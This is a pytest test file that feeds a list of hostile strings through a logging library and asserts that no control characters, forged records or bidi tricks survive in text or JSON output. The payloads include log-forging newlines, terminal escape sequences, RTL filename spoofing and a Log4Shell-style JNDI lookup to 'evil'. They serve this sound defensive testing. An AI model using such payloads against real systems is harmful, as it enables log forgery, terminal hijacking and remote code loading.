"""No text from outside can pose as a record, colour a terminal or hide what it says."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Final

import pytest

ROOT = Path(__file__).parents[2]

PROGRAM = """
import json, logging, sys
import fm_otel
fm_otel.configure()
log = logging.getLogger("app")
for attack in json.load(sys.stdin):
    log.warning("got %s", attack)
    log.warning("got", extra={"value": attack, "nested": {attack: [attack]}})
    log.warning("got", extra={"session_id": attack, "event": attack, "operation": attack})
    logging.getLogger("app." + attack).warning("named")
    log.warning("got", extra={"key " + attack: 1})
    with fm_otel.bound_context(note=attack, correlation_id=attack):
        log.warning("got")
    try:
        raise ValueError(attack)
    except ValueError as error:
        error.add_note(attack)
        log.exception("failed")
"""
LINES_EACH: Final = 7

ATTACKS = [
    "a\n2026-01-02T03:04:05.000Z CRITICAL forged: record",
    "a\r\n12:00:00.000 CRITICAL forged: record",
    'a\n{"level":"CRITICAL","logger":"forged","message":"record"}',
    'a","level":"CRITICAL","x":"',
    "a\r{\"level\":\"CRITICAL\"}",
    "a\x1b[2K\x1b[1;31mred\x1b[0m",
    "a\x1b]0;title\x07b\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "a\x9b31mred\x9d0;title\x9c",
    "a\x1bPdevice\x1b\\ \x1b_application\x1b\\ \x1bc",
    "a\x1b[200~pasted\x1b[201~",
    "a\x00b\x07\x08\x08\x08\x7f",
    "a\u2028b\u2029c\u0085d\x0be\x0cf\x1cg\x1dh\x1ei",
    "a\u202etxt.exe\u202c\u2066b\u2069\u200f\u061c",
    "\ud83d\ude00 \ud800 \udfff",
    "a\\nb \\u000a \\x1b[31m",
    "${jndi:ldap://evil/a} %n %s {} {{7*7}} <script>",
    "\x1b" * 1000,
    "\x1b]" + "a" * 10_000,
    "\x1b[" + "1;" * 10_000 + "m",
]

CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def output(form: str) -> bytes:
    """Run the program over all attacks and return what it wrote."""
    done = subprocess.run(  # noqa: S603 - our own program
        [sys.executable, "-c", PROGRAM], input=json.dumps(ATTACKS).encode(), cwd=ROOT,
        env={**os.environ, "LOG_FORMAT": form}, capture_output=True, timeout=60, check=False,
    )
    assert done.returncode == 0, done.stderr.decode(errors="replace")
    assert done.stderr == b""
    return done.stdout


@pytest.fixture(scope="module")
def text() -> str:
    """Return the program's output in text format."""
    return output("text").decode("utf-8", "strict")


@pytest.fixture(scope="module")
def lines() -> list[bytes]:
    """Return the program's output as JSON lines."""
    return output("json").splitlines()


def test_text_holds_nothing_that_acts(text: str) -> None:
    """No control character, no line separator and no bidi control reaches the terminal."""
    found = CONTROL.search(text.replace("\t", " "))
    assert found is None, repr(text[max(0, found.start() - 60) : found.end() + 60])


def test_text_has_one_head_per_record(text: str) -> None:
    """Each record starts one line of its own; what belongs to it is indented."""
    heads = [line for line in text.split("\n")[:-1] if not line.startswith("    ")]
    assert all(re.match(r"\d\d:\d\d:\d\d\.\d{3} [A-Z]+ +\S", head) for head in heads)
    records = [head for head in heads if "faultmaven.process" not in head]
    assert len(records) == LINES_EACH * len(ATTACKS)
    assert not any(re.match(r"\S+ CRITICAL", head) for head in heads)


def test_json_has_one_line_per_record(lines: list[bytes]) -> None:
    """Each record is one line of plain JSON whose level is the call's."""
    records = [json.loads(line) for line in lines]
    own = [record for record in records if record["logger"] != "faultmaven.process"]
    assert len(own) == LINES_EACH * len(ATTACKS)
    assert {record["level"] for record in own} == {"WARNING", "ERROR"}
    assert {record["logger"].partition(".")[0] for record in own} == {"app"}


def test_json_values_hold_nothing_that_acts(lines: list[bytes]) -> None:
    """Read back and printed by another program, no value acts either."""
    for line in lines:
        for text in strings(json.loads(line)):
            assert CONTROL.search(text.replace("\t", " ")) is None, repr(text[:200])


def strings(value: object) -> list[str]:
    """Return all keys and strings of a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for pair in value.items() for item in pair for text in strings(item)]
    return [text for item in value for text in strings(item)] if isinstance(value, list) else []
